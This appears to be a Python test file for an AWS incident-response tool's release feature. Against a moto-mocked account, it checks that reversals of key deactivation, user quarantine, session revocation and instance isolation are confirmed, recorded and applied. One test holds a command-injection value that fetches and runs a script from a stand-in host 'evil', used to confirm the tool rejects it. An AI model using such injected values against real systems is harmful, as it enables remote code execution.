"""release against moto: the real response actions change a staged account, their StepResults go
through the incident table, and release puts every staged resource back as it was.

State is read back from the account (and, for ENI groups, from moto's own ENI record, since
moto's DescribeNetworkInterfaces reports a union; see drill/observe.py), never from what release says.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import boto3
import pytest
from botocore.exceptions import ClientError
from moto import mock_aws

from common.aws import client
from contain_key.actions import FALLBACK_POLICY_NAME, deactivate_key, quarantine_user
from drill.moto_quirks import aws_semantics
from isolate_instance.actions import ORIGINAL_TAG, isolate_instance
from preserve_evidence.actions import create_evidence_image, protect_from_autoscaling, protect_instance
from record.finish import finish
from record.item import load
from record.registration import register
from record.responses import release_steps
from responder.release import ReleaseError, Reversal, load_incident, plan, record_timeline, release
from revoke_sessions.actions import revoke_role_sessions

REGION = "eu-west-1"
ACCOUNT = "123456789012"
TABLE = "incidents"
INCIDENT_ID = f"{ACCOUNT}:c2c6f0f0a7d14c1e8d1b3e5f7a9b0c11"
AWS_QUARANTINE = "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3"  # not in moto: the inline fallback runs
NOW = datetime(2026, 11, 20, 3, 5, tzinfo=UTC)


@dataclass
class Account:
    iam: Any
    ec2: Any
    autoscaling: Any
    dynamodb: Any


@pytest.fixture
def account(monkeypatch: pytest.MonkeyPatch) -> Iterator[Account]:
    for key, value in {
        "AWS_ACCESS_KEY_ID": "testing",
        "AWS_SECRET_ACCESS_KEY": "testing",
        "AWS_DEFAULT_REGION": REGION,
    }.items():
        monkeypatch.setenv(key, value)
    client.cache_clear()
    with mock_aws(), aws_semantics():
        dynamodb = boto3.client("dynamodb", region_name=REGION)
        dynamodb.create_table(
            TableName=TABLE,
            BillingMode="PAY_PER_REQUEST",
            AttributeDefinitions=[{"AttributeName": "id", "AttributeType": "S"}],
            KeySchema=[{"AttributeName": "id", "KeyType": "HASH"}],
        )
        yield Account(
            boto3.client("iam"),
            boto3.client("ec2", region_name=REGION),
            boto3.client("autoscaling", region_name=REGION),
            dynamodb,
        )
    client.cache_clear()


@dataclass
class Staged:
    users: dict[str, str]  # user -> key id
    managed_policy: str
    instance: str
    guarded_instance: str
    asg_instance: str
    enis: dict[str, list[str]]  # eni -> original groups


def stage(acct: Account) -> Staged:
    iam, ec2 = acct.iam, acct.ec2
    users = {}
    for user in ("ci-deployer", "build-bot"):
        iam.create_user(UserName=user)
        users[user] = iam.create_access_key(UserName=user)["AccessKey"]["AccessKeyId"]
    managed = iam.create_policy(
        PolicyName="OurQuarantine",
        PolicyDocument='{"Version": "2012-10-17", "Statement": [{"Effect": "Deny", "Action": "*", "Resource": "*"}]}',
    )["Policy"]["Arn"]
    iam.create_role(RoleName="web-app-role", AssumeRolePolicyDocument="{}")

    vpcs = [ec2.create_vpc(CidrBlock=f"10.{n}.0.0/16")["Vpc"]["VpcId"] for n in (0, 1)]
    subnets = [
        ec2.create_subnet(VpcId=vpc, CidrBlock=f"10.{n}.1.0/24", AvailabilityZone=f"{REGION}a")["Subnet"]["SubnetId"]
        for n, vpc in enumerate(vpcs)
    ]
    web = [
        ec2.create_security_group(GroupName=name, Description=name, VpcId=vpcs[0])["GroupId"] for name in ("web", "ssh")
    ]
    db = [ec2.create_security_group(GroupName="db", Description="db", VpcId=vpcs[1])["GroupId"]]
    launched = ec2.run_instances(
        ImageId="ami-12c6146b",
        MinCount=1,
        MaxCount=1,
        SubnetId=subnets[0],
        SecurityGroupIds=web,
        InstanceInitiatedShutdownBehavior="terminate",
    )["Instances"][0]
    second = ec2.create_network_interface(SubnetId=subnets[1], Groups=db)["NetworkInterface"]["NetworkInterfaceId"]
    ec2.attach_network_interface(NetworkInterfaceId=second, InstanceId=launched["InstanceId"], DeviceIndex=1)

    # Already protected against termination by its owner: the responder only changes its shutdown behaviour.
    guarded = ec2.run_instances(
        ImageId="ami-12c6146b", MinCount=1, MaxCount=1, InstanceInitiatedShutdownBehavior="terminate"
    )["Instances"][0]["InstanceId"]
    ec2.modify_instance_attribute(InstanceId=guarded, DisableApiTermination={"Value": True})

    ec2.create_launch_template(
        LaunchTemplateName="web-template", LaunchTemplateData={"ImageId": "ami-12c6146b", "InstanceType": "t3.micro"}
    )
    acct.autoscaling.create_auto_scaling_group(
        AutoScalingGroupName="web-asg",
        MinSize=1,
        MaxSize=3,
        DesiredCapacity=1,
        LaunchTemplate={"LaunchTemplateName": "web-template"},
        VPCZoneIdentifier=subnets[0],
    )
    asg_instance = acct.autoscaling.describe_auto_scaling_instances()["AutoScalingInstances"][0]["InstanceId"]
    primary = launched["NetworkInterfaces"][0]["NetworkInterfaceId"]
    return Staged(
        users, managed, launched["InstanceId"], guarded, asg_instance, {primary: sorted(web), second: sorted(db)}
    )


def respond(acct: Account, staged: Staged) -> list[dict[str, Any]]:
    """The real response actions, in the workflow's order, as the incident record stores them."""
    (deployer, deployer_key), (bot, bot_key) = staged.users.items()
    steps = [
        deactivate_key(acct.iam, deployer, deployer_key),
        quarantine_user(acct.iam, deployer, staged.managed_policy),
        deactivate_key(acct.iam, bot, bot_key),
        quarantine_user(acct.iam, bot, AWS_QUARANTINE),
        revoke_role_sessions(acct.iam, "web-app-role", detected_at="2026-11-20T03:02:11Z"),
        protect_instance(acct.ec2, staged.instance, REGION),
        protect_instance(acct.ec2, staged.guarded_instance, REGION),
        protect_from_autoscaling(acct.autoscaling, staged.asg_instance, REGION),
        create_evidence_image(acct.ec2, {"instance_id": staged.instance, "incident_id": INCIDENT_ID, "region": REGION}),
        isolate_instance(acct.ec2, staged.instance, REGION, incident_id=INCIDENT_ID),
    ]
    assert [s["status"] for s in steps] == ["done"] * len(steps), steps
    incident = {
        "incident_id": INCIDENT_ID,
        "kind": "instance-credential-exfiltration",
        "account": ACCOUNT,
        "region": REGION,
        "event_type": "test",
        "event_id": "e-1",
    }
    register(acct.dynamodb, TABLE, incident, execution_arn="arn:exec:1", now=NOW)
    finish(
        acct.dynamodb,
        TABLE,
        INCIDENT_ID,
        response=0,
        outcome="contained",
        reason="test",
        steps=steps,
        notifications=[],
        now=NOW,
    )
    return steps


def observe(acct: Account, staged: Staged) -> dict[str, Any]:
    from moto.ec2.models import ec2_backends

    iam, ec2 = acct.iam, acct.ec2
    backend = ec2_backends[ACCOUNT][REGION]

    def attribute(instance: str, name: str) -> Any:
        key = name[0].upper() + name[1:]
        return ec2.describe_instance_attribute(InstanceId=instance, Attribute=name)[key]["Value"]

    tags = ec2.describe_tags(Filters=[{"Name": "resource-id", "Values": [staged.instance]}])["Tags"]
    return {
        "keys": {user: iam.list_access_keys(UserName=user)["AccessKeyMetadata"][0]["Status"] for user in staged.users},
        "user_policies": {
            user: [p["PolicyArn"] for p in iam.list_attached_user_policies(UserName=user)["AttachedPolicies"]]
            + iam.list_user_policies(UserName=user)["PolicyNames"]
            for user in staged.users
        },
        "role_policies": iam.list_role_policies(RoleName="web-app-role")["PolicyNames"],
        "enis": {eni: sorted(group.id for group in backend.enis[eni]._group_set) for eni in staged.enis},
        "protection": {
            instance: (
                attribute(instance, "disableApiTermination"),
                attribute(instance, "instanceInitiatedShutdownBehavior"),
            )
            for instance in (staged.instance, staged.guarded_instance)
        },
        "asg": [
            i["InstanceId"]
            for i in acct.autoscaling.describe_auto_scaling_groups(AutoScalingGroupNames=["web-asg"])[
                "AutoScalingGroups"
            ][0]["Instances"]
        ],
        "record_tags": sorted(tag["Key"] for tag in tags if tag["Key"].startswith(ORIGINAL_TAG)),
        "images": len(ec2.describe_images(Owners=["self"])["Images"]),
    }


def test_release_puts_every_staged_resource_back(account: Account) -> None:
    staged = stage(account)
    before = observe(account, staged)
    respond(account, staged)
    during = observe(account, staged)
    assert during["keys"] == {"ci-deployer": "Inactive", "build-bot": "Inactive"}
    assert during["role_policies"] == ["AWSRevokeOlderSessions"]
    assert during["enis"] != before["enis"]
    assert during["record_tags"] == [ORIGINAL_TAG]

    record = load_incident(account.dynamodb, TABLE, INCIDENT_ID)
    reversals, notes = plan(release_steps(record), iam=account.iam, ec2=account.ec2, autoscaling=account.autoscaling)
    outcomes = release(
        reversals,
        confirm=lambda _: True,
        record=lambda what: record_timeline(account.dynamodb, TABLE, INCIDENT_ID, what, now=NOW),
    )
    after = observe(account, staged)

    assert [o.status for o in outcomes] == ["released"] * len(outcomes), [(o.reversal.what, o.detail) for o in outcomes]
    assert after["keys"] == before["keys"] == {"ci-deployer": "Active", "build-bot": "Active"}
    assert after["user_policies"] == before["user_policies"] == {"ci-deployer": [], "build-bot": []}
    assert after["role_policies"] == before["role_policies"] == []
    assert after["enis"] == before["enis"] == staged.enis
    assert (
        after["protection"]
        == before["protection"]
        == {staged.instance: (False, "terminate"), staged.guarded_instance: (True, "terminate")}
    )
    assert staged.asg_instance in after["asg"]
    assert after["record_tags"] == []
    # The evidence is kept, and said so.
    assert after["images"] == 1 and any("evidence image" in note for note in notes)

    timeline = load(account.dynamodb, TABLE, INCIDENT_ID)["timeline"]  # type: ignore[index]
    released = [entry["what"] for entry in timeline if entry["what"].startswith("released: ")]
    assert len(released) == len(reversals) == 9


def test_reversals_come_network_first_and_name_what_they_undo(account: Account) -> None:
    staged = stage(account)
    steps = respond(account, staged)
    reversals, _ = plan(steps, iam=account.iam, ec2=account.ec2, autoscaling=account.autoscaling)
    assert [r.step for r in reversals] == [
        "isolate-instance",
        "protect-from-autoscaling",
        "protect-instance",
        "protect-instance",
        "revoke-role-sessions",
        "quarantine-user",
        "quarantine-user",
        "deactivate-access-key",
        "deactivate-access-key",
    ]
    whats = " | ".join(r.what for r in reversals)
    assert f"detach {staged.managed_policy} from user ci-deployer" in whats
    assert f"delete the inline policy {FALLBACK_POLICY_NAME} of user build-bot" in whats
    assert f"{staged.guarded_instance}: set shutdown behaviour back to 'terminate'" in whats  # protection was theirs
    assert f"{staged.instance}: turn termination protection off and set shutdown behaviour back to 'terminate'" in whats


def test_declined_reversals_change_and_record_nothing(account: Account) -> None:
    staged = stage(account)
    steps = respond(account, staged)
    during = observe(account, staged)
    recorded: list[str] = []
    reversals, _ = plan(steps, iam=account.iam, ec2=account.ec2, autoscaling=account.autoscaling)
    outcomes = release(reversals, confirm=lambda r: r.step == "revoke-role-sessions", record=recorded.append)
    assert [o.status for o in outcomes].count("released") == 1
    assert observe(account, staged) == {**during, "role_policies": []}
    assert recorded == [
        "released: delete the inline policy AWSRevokeOlderSessions of role web-app-role (sessions "
        "work again) (AWSRevokeOlderSessions is gone from role web-app-role (read back))"
    ]


def test_only_steps_that_changed_something_are_reversed() -> None:
    steps = [
        {
            "name": "deactivate-access-key",
            "status": "already-done",
            "target": "AKIA1",
            "detail": "was Inactive",
            "undo": "aws iam update-access-key --user-name u --access-key-id AKIA1 --status Active",
        },
        {"name": "quarantine-user", "status": "skipped", "target": "u", "detail": "dry-run"},
        {"name": "revoke-role-sessions", "status": "failed", "target": "r", "detail": "AccessDenied"},
        {"name": "protect-instance", "status": "done", "target": "i-1", "detail": "", "undo": ""},
    ]
    reversals, notes = plan(steps, iam=object(), ec2=object(), autoscaling=object())
    assert reversals == []
    assert notes == ["deactivate-access-key AKIA1: left as is, the responder found it already so (was Inactive)"]


def test_a_failed_reversal_is_recorded_and_the_rest_go_on() -> None:
    def broken() -> str:
        raise ReleaseError("reads back as Inactive")

    recorded: list[str] = []
    reversals = [
        Reversal("deactivate-access-key", "AKIA1", "re-activate AKIA1", broken),
        Reversal("quarantine-user", "u", "detach P from u", lambda: "detached (read back)"),
    ]
    outcomes = release(reversals, confirm=lambda _: True, record=recorded.append)
    assert [o.status for o in outcomes] == ["failed", "released"]
    assert recorded == [
        "release failed: re-activate AKIA1 (reads back as Inactive)",
        "released: detach P from u (detached (read back))",
    ]


def test_recording_needs_an_existing_incident(account: Account) -> None:
    with pytest.raises(ClientError, match="ConditionalCheckFailed"):
        record_timeline(account.dynamodb, TABLE, "no-such-incident", "released: nothing")
    with pytest.raises(ReleaseError, match="no incident no-such-incident"):
        load_incident(account.dynamodb, TABLE, "no-such-incident")


def test_the_command_asks_before_each_reversal(
    account: Account, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from responder import __main__ as cli

    staged = stage(account)
    respond(account, staged)
    # moto's CloudFormation needs extras this project does not install; the outputs call is tested with Stubber.
    monkeypatch.setattr(cli, "stack_outputs", lambda _cfn, stack: {"IncidentTableName": TABLE})
    questions: list[str] = []

    def ask(question: str) -> str:
        questions.append(question)
        return "y" if "AWSRevokeOlderSessions" in question else ""

    assert cli.main(["release", INCIDENT_ID, "--region", REGION], ask=ask) == 0
    assert len(questions) == 9 and all(question.endswith("? [y/N] ") for question in questions)
    assert observe(account, staged)["role_policies"] == []
    assert observe(account, staged)["keys"] == {"ci-deployer": "Inactive", "build-bot": "Inactive"}
    out = capsys.readouterr().out
    assert out.count("[declined]") == 8 and out.count("[released]") == 1
    # A release that left eight changes in place is recorded as partial: the record is not `released`.
    assert f"release recorded on incident {INCIDENT_ID}: partial" in out
    record = load(account.dynamodb, TABLE, INCIDENT_ID)
    assert record["status"] == "contained" and record["responses"][-1]["kind"] == "release"
    assert cli.main(["release", "no-such-incident", "--region", REGION, "--yes"]) == 2


class FakeEc2:
    """Only what the restore reversal reads and writes; records every change."""

    def __init__(self, attached: list[str]) -> None:
        self.attached, self.changes = attached, []

    def describe_instances(self, InstanceIds: list[str]) -> dict[str, Any]:
        interfaces = [{"NetworkInterfaceId": eni} for eni in self.attached]
        return {"Reservations": [{"Instances": [{"InstanceId": InstanceIds[0], "NetworkInterfaces": interfaces}]}]}

    def modify_network_interface_attribute(self, **kwargs: Any) -> None:
        self.changes.append(kwargs)


def test_release_applies_only_what_its_prompt_shows_and_only_to_the_instances_own_interfaces() -> None:
    from responder.release import ReleaseError, plan

    own, foreign = "eni-0000000000000000a", "eni-0000000000000000b"
    step = {
        "name": "isolate-instance",
        "status": "done",
        "target": "i-0000000000000000a",
        "undo": "ignored",
        "data": {"original_groups": {own: ["sg-0000000000000000a"], foreign: ["sg-0000000000000000b"]}},
    }
    ec2 = FakeEc2(attached=[own])
    (reversal,), _ = plan([step], iam=None, ec2=ec2)
    assert f"{own} -> sg-0000000000000000a" in reversal.what and f"{foreign} -> sg-0000000000000000b" in reversal.what
    with pytest.raises(ReleaseError, match="not attached"):
        reversal.run()
    assert ec2.changes == []  # nothing changed: not even the instance's own interface
    # A group value that is not a group id is never applied, and the prompt says it is left out.
    step["data"]["original_groups"] = {own: ["sg-1;curl${IFS}evil|sh"]}
    (reversal,), _ = plan([step], iam=None, ec2=ec2)
    assert "curl" not in reversal.what and "left as they are" in reversal.what


def test_release_from_a_joined_findings_id_reverses_every_response_and_marks_the_record(account: Account) -> None:
    """The id a joined report prints leads to the record; every response's changes are reversed, the
    first response's included; the release is a response of its own and the record is `released`."""
    from record.join import join_earlier
    from responder.release import mark_released, resolve

    iam = account.iam
    iam.create_role(RoleName="web-app-role", AssumeRolePolicyDocument="{}")
    iam.create_user(UserName="svc-backup")
    key = iam.create_access_key(UserName="svc-backup")["AccessKey"]["AccessKeyId"]
    exfil = {"incident_id": f"{ACCOUNT}:guardduty:f1", "kind": "instance-credential-exfiltration", "account": ACCOUNT,
             "region": REGION, "finding_id": "f1", "role_name": "web-app-role", "event_id": "e1"}  # fmt: skip
    sequence = {"incident_id": f"{ACCOUNT}:guardduty:s1", "kind": "exposed-access-key", "account": ACCOUNT,
                "region": REGION, "finding_id": "s1", "access_key_ids": [key], "related_finding_ids": ["f1"],
                "event_id": "e2"}  # fmt: skip
    register(account.dynamodb, TABLE, exfil, execution_arn="arn:exec:1", now=NOW)
    revoked = revoke_role_sessions(iam, "web-app-role", detected_at="2026-11-20T03:02:11Z")
    finish(account.dynamodb, TABLE, exfil["incident_id"], response=0, outcome="contained", reason="r",
           steps=[revoked], notifications=[])  # fmt: skip
    joined = join_earlier(account.dynamodb, TABLE, sequence, execution_arn="arn:exec:2", now=NOW)
    assert joined is not None and joined.registration.response == 1
    deactivated = deactivate_key(iam, "svc-backup", key)
    finish(account.dynamodb, TABLE, exfil["incident_id"], response=1, outcome="contained", reason="r",
           steps=[deactivated], notifications=[])  # fmt: skip

    record_id, record = resolve(account.dynamodb, TABLE, sequence["incident_id"])
    assert record_id == exfil["incident_id"]
    assert resolve(account.dynamodb, TABLE, f"incident#{sequence['incident_id']}")[0] == record_id  # the table's key
    reversals, notes = plan(release_steps(record), iam=iam)
    assert sorted(r.step for r in reversals) == ["deactivate-access-key", "revoke-role-sessions"]
    outcomes = release(reversals, confirm=lambda _: True, record=lambda what: None)
    assert mark_released(account.dynamodb, TABLE, record_id, record, outcomes, notes) == "released"
    assert iam.list_access_keys(UserName="svc-backup")["AccessKeyMetadata"][0]["Status"] == "Active"
    assert iam.list_role_policies(RoleName="web-app-role")["PolicyNames"] == []
    record = load(account.dynamodb, TABLE, record_id)
    assert record["status"] == "released"
    assert [r["kind"] for r in record["responses"]] == ["first", "contain", "release"]
    assert {r["status"] for r in record["responses"][-1]["reversals"]} == {"released"}
    assert release_steps(record) == []  # released: nothing left to reverse
